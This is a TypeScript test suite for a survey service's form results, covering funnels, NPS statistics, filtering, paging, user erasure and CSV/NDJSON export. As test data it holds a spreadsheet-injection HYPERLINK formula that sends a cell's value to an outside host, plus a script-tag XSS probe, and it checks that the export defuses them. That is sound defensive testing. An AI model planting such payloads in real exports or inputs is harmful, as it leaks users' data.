import { randomUUID } from 'node:crypto'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { eventually, keyNamed, type ThrowAwayStack } from '@nextvisit/testing/black-box'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Body, createPolledPeople, GONE, keyed, organization, QUESTIONS } from './polled-people.ts'
import { createStackCaller } from './stack-commands.ts'

const DAY_MS = 24 * 3_600_000
const FORMULA = '=HYPERLINK("http://example.com?"&A1,"more")'
const MARKUP = `<script>alert('1')</script>, 😀 "quoted"\nnext line`

/** Reads a table of CSV by RFC 4180. */
function parseCsv(text: string): readonly Readonly<Record<string, string>>[] {
  const [head = [], ...rows] = text
    .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    .slice(0, -1)
    .map((line) =>
      Array.from(line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g), ([, quoted, plain]) =>
        quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
      ),
    )
  return rows.map((cells) => Object.fromEntries(cells.map((cell, index) => [head[index] ?? '', cell])))
}

const elementOf = ({ elements }: Body, id: string) => (elements as Body[]).find((element) => element['id'] === id)
const distributionOf = (body: Body, id: string) =>
  Object.fromEntries(
    ((elementOf(body, id)?.['distribution'] ?? []) as { value: string; count: number }[]).map(({ value, count }) => [
      value,
      count,
    ]),
  )
const dayAt = (ms: number) => new Date(ms).toISOString().slice(0, 10)

/** Tests forms.md, Results: those of an organization of its own. */
export function describeFormResults(stackOf: () => ThrowAwayStack): void {
  const { post, get, offers, queue, offer, give, results, resultsWith, pages, apply, exportAnswers } =
    createPolledPeople(stackOf)
  let folder: string
  beforeAll(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'nextvisit-test-'))
  })
  afterAll(() => rm(folder, { recursive: true, force: true }))
  const workspaceFile = () => path.join(folder, 'workspace.yaml')

  // Each test continues where the one before ended.
  describe('results of a form (forms.md, Results)', { timeout: 240_000 }, () => {
    it('equal what was sent', async () => {
      const people = [
        ['ann', 'en', { score: 10, reason: FORMULA, plan: 'yearly', uses: ['work', 'home'], contact: true }],
        ['ben', 'de-CH', { score: 9, reason: MARKUP, plan: { other: '=1+1' }, uses: ['home'] }],
        ['cem', 'en', { score: 7, plan: 'yearly', contact: false }],
        ['dee', 'en', { score: 3 }],
      ] as const
      await Promise.all([
        ...people.map(([userName, language]) => offer(userName, language)),
        ...['eve', 'fay'].map((userName) => offer(userName)),
        queue('gus', 'Bought'),
      ])
      expect(await give('dee', 'partial', { score: 8, contact: true })).toBe(202)
      for (const [userName, , answers] of people) expect(await give(userName, 'finished', answers)).toBe(202)
      expect(await give('eve', 'dismissed', {})).toBe(202)

      const funnel = { queued: 7, delivered: 6, started: 4, finished: 4, dismissed: 1, expired: 0 }
      const found = await resultsWith(funnel)
      expect(found).toMatchObject({ responseRate: 4 / 6, unmatched: 0 })
      expect(elementOf(found, 'score')).toEqual({
        id: 'score',
        type: 'nps',
        count: 4,
        average: 7.25,
        distribution: [3, 7, 9, 10].map((value) => ({ value, count: 1 })),
        nps: 25,
        promoters: 2,
        passives: 1,
        detractors: 1,
      })
      expect(elementOf(found, 'reason')).toEqual({ id: 'reason', type: 'text', count: 2, distribution: [] })
      expect(distributionOf(found, 'plan')).toEqual({ yearly: 2, other: 1 })
      expect(distributionOf(found, 'uses')).toEqual({ home: 2, work: 1 })
      expect(distributionOf(found, 'contact')).toEqual({ true: 1, false: 1 })

      const seconds: number[] = []
      for (const [userName] of people) {
        const { queue: rows } = (await get(`/v2/admin/users/${userName}/forms`)).body as { queue: Body[] }
        const { deliveredAt, endedAt } = rows[0] ?? {}
        seconds.push(Math.floor((Date.parse(String(endedAt)) - Date.parse(String(deliveredAt))) / 1_000))
      }
      const [, second = 0, third = 0] = seconds.toSorted((one, other) => one - other)
      expect(found['medianSecondsToAnswer']).toBe((second + third) / 2)
    })

    it('are of one language, or of all', async () => {
      const german = { delivered: 1, started: 1, finished: 1, dismissed: 0 }
      const found = await resultsWith(german, '?language=DE')
      expect(elementOf(found, 'score')).toMatchObject({ count: 1, average: 9 })
      await resultsWith({ delivered: 5, started: 3, finished: 3, dismissed: 1 }, '?language=en')
      await resultsWith({ delivered: 0, started: 0, finished: 0, dismissed: 0 }, '?language=fr')
    })

    it('are of days in UTC, without the last one', async () => {
      const { queue: rows } = (await get('/v2/admin/users/ann/forms')).body as { queue: Body[] }
      // The answers may have come before and after midnight.
      const [first, last] = [dayAt(Date.parse(String(rows[0]?.['queuedAt']))), dayAt(Date.now())]
      const all = await results()
      expect(await results(`?from=${first}&to=${dayAt(Date.parse(last) + DAY_MS)}`)).toEqual(all)
      const none = { queued: 0, delivered: 0, started: 0, finished: 0, dismissed: 0, expired: 0 }
      const before = `?from=${dayAt(Date.parse(first) - DAY_MS)}&to=${first}`
      for (const query of [before, `?to=${first}`, `?from=${dayAt(Date.parse(last) + DAY_MS)}`])
        expect(await results(query)).toMatchObject({ funnel: none, responseRate: null, elements: [] })
      // Ranges without a missing day may have any length.
      for (const query of ['?from=2020-01-01', '?from=0001-01-01&to=9999-12-31'])
        expect(await results(query)).toEqual(all)
    })

    it('of tests are apart, whichever key asks', async () => {
      const before = await results()
      await offer('ann-tests', 'en', 'T')
      expect(await give('ann-tests', 'finished', { score: 0 }, 'T')).toBe(202)
      const funnel = { queued: 1, delivered: 1, started: 1, finished: 1, dismissed: 0, expired: 0 }
      expect(elementOf(await resultsWith(funnel, '?environment=T'), 'score')).toMatchObject({ count: 1, average: 0 })
      expect(await results()).toEqual(before)
      const withTestKey = { key: keyNamed('POLLED_ADMIN_T') }
      const { carefully } = createStackCaller(stackOf, () => withTestKey.key)
      expect((await carefully('GET', '/v2/admin/forms/nps/results')).body).toEqual(before)
      expect((await pages(100)).map(({ userName }) => userName)).not.toContain('ann-tests')
      const tests = await get('/v2/admin/forms/nps/answers?environment=T')
      expect(tests.body).toMatchObject({ answers: [{ userName: 'ann-tests', environment: 'T' }], next: null })
    })

    it('have one answer of an offer in two tabs, and count answers without an offer apart', async () => {
      const both = await Promise.all([give('fay', 'finished', { score: 5 }), give('fay', 'finished', { score: 6 })])
      expect(both).toEqual([202, 202])
      expect(await give('fay', 'finished', { score: 1 }, 'P', { offerId: randomUUID() })).toBe(202)
      const found = await eventually(
        () => results(),
        ({ unmatched }) => unmatched === 1,
        60_000,
        500,
      )
      expect(found).toMatchObject({ unmatched: 1, funnel: { started: 5, finished: 5 } })
      expect(elementOf(found, 'score')).toMatchObject({ count: 5 })
      const own = (await pages(100)).filter(({ userName }) => userName === 'fay')
      expect(own).toHaveLength(1)
      expect([5, 6]).toContain(own[0]?.answers['score'])
      expect(distributionOf(found, 'score')).toHaveProperty(String(own[0]?.answers['score']), 1)
    })

    it('keep the answers of both revisions after an edit between delivery and answer', async () => {
      await offer('old')
      await apply(workspaceFile(), organization(`${QUESTIONS}\n                - { id: stars, type: rating }`, GONE))
      await offer('new')
      expect(await give('old', 'finished', { score: 6, contact: true })).toBe(202)
      expect(await give('new', 'finished', { score: 10, stars: 5 })).toBe(202)
      const [old, young] = ['old', 'new'].map((userName) => offers.get(userName)?.revision)
      expect(young).toBeGreaterThan(old ?? 0)
      const funnel = { queued: 9, delivered: 8, started: 7, finished: 7, dismissed: 1, expired: 0 }
      const found = await resultsWith(funnel)
      expect(elementOf(found, 'stars')).toMatchObject({ count: 1, average: 5 })
      expect(elementOf(found, 'contact')).toMatchObject({ count: 3 })
      const listed = await pages(2)
      expect(listed.slice(0, 2)).toMatchObject([
        { userName: 'new', revision: young, answers: { score: 10, stars: 5 } },
        { userName: 'old', revision: old, answers: { score: 6, contact: true } },
      ])
    })

    it('list answers as they were given, in pages that later answers do not move', async () => {
      const before = await pages(100)
      expect(before.map(({ userName }) => userName).toSorted()).toEqual([
        'ann',
        'ben',
        'cem',
        'dee',
        'fay',
        'new',
        'old',
      ])
      const newest = before.map((answer) => String(answer['startedAt']))
      expect(newest).toEqual(newest.toSorted().toReversed())
      expect(before.find(({ userName }) => userName === 'ann')?.answers).toMatchObject({ reason: FORMULA })
      expect(before.find(({ userName }) => userName === 'ben')).toMatchObject({
        language: 'de',
        status: 'finished',
        answers: { reason: MARKUP, plan: { other: '=1+1' } },
        offerId: offers.get('ben')?.offerId,
      })
      await offer('late')
      const during = await pages(2, async () => {
        expect(await give('late', 'partial', { score: 4 })).toBe(202)
        await resultsWith({ queued: 10, delivered: 9, started: 8, finished: 7, dismissed: 1, expired: 0 })
      })
      expect(during).toEqual(before)
      const [first, ...rest] = await pages(3)
      expect([first, rest]).toEqual([expect.objectContaining({ userName: 'late', status: 'partial' }), before])
    })

    it('are exported as NDJSON and as CSV, whose cells no spreadsheet computes', async () => {
      const answers = await pages(100)
      const ndjson = await exportAnswers()
      expect(ndjson).toMatchObject({
        exitCode: 0,
        stderr: expect.stringContaining('Wrote 8 answers of nps to standard'),
      })
      expect(
        ndjson.stdout
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line) as unknown),
      ).toEqual(answers)
      const file = path.join(folder, 'nps.csv')
      expect(await exportAnswers('--format', 'csv', '--out', file)).toMatchObject({ exitCode: 0, stdout: '' })
      const rows = parseCsv(await readFile(file, 'utf8'))
      expect(rows.map(({ answerId }) => answerId)).toEqual(answers.map(({ answerId }) => answerId))
      expect(rows.find(({ userName }) => userName === 'ann')).toMatchObject({
        'answers.score': '10',
        'answers.reason': `'${FORMULA}`,
        'answers.plan': 'yearly',
        'answers.uses': 'work;home',
        'answers.contact': 'true',
        'answers.stars': '',
      })
      expect(rows.find(({ userName }) => userName === 'ben')).toMatchObject({
        'answers.reason': MARKUP,
        'answers.plan': '',
        'answers.plan.other': "'=1+1",
      })
      expect(await exportAnswers('--environment', 'T')).toMatchObject({ stdout: expect.stringContaining('ann-tests') })
    })

    it('of a removed form stay, and others are not found', async () => {
      await offer('left', 'en', 'P', 'Left')
      expect(await give('left', 'finished', { stars: 2 })).toBe(202)
      const funnel = { queued: 1, delivered: 1, started: 1, finished: 1, dismissed: 0, expired: 0 }
      const kept = await resultsWith(funnel, '', 'gone')
      await apply(workspaceFile(), organization())
      expect(await results('', 'gone')).toEqual(kept)
      const { answers } = (await get('/v2/admin/forms/gone/answers')).body
      expect(answers).toMatchObject([{ userName: 'left', answers: { stars: 2 } }])
      const { forms } = (await get('/v2/admin/forms')).body
      expect(forms).toMatchObject([
        { formId: 'gone', enabled: false, removed: true, funnel },
        { formId: 'nps', enabled: true, unmatched: 1 },
        { formId: 'unused', funnel: { queued: 0, delivered: 0 }, responseRate: null },
      ])
      for (const page of ['results', 'answers'])
        expect(await get(`/v2/admin/forms/unknown/${page}`)).toMatchObject({ status: 404, body: { status: 404 } })
      expect(await exportAnswers('--form', 'unknown')).toMatchObject({ exitCode: 2, stdout: '' })
    })

    it('of an erased user keep the counts, and lose answers and name', async () => {
      const before = await results()
      const answers = await pages(100)
      const { body } = await post('/v2/admin/erasures', { userNames: ['ann'] }, keyed('POLLED_ADMIN_P'))
      const left = answers.filter(({ userName }) => userName !== 'ann')
      const shown = await eventually(
        () => pages(100),
        (all) => all.length === left.length,
        5_000,
      )
      expect(shown).toEqual(left)
      const readErasure = async () => (await get(`/v2/admin/erasures/${String(body['erasureId'])}`)).body
      const ended = await eventually(readErasure, ({ status }) => status === 'complete', 120_000, 1_000)
      expect(ended).toMatchObject({ status: 'complete' })
      expect(await pages(3)).toEqual(left)
      expect(await results()).toEqual(before)
      const { stdout } = await exportAnswers()
      expect(stdout).toContain('"ben"')
      for (const word of ['"ann"', 'HYPERLINK']) expect(stdout).not.toContain(word)
      // A gateway that cannot look the user up in time admits the answer.
      const answered = await eventually(
        () => give('ann', 'finished', { score: 1 }),
        (status) => status === 404,
        30_000,
        500,
      )
      expect(answered).toBe(404)
    })
  })
}
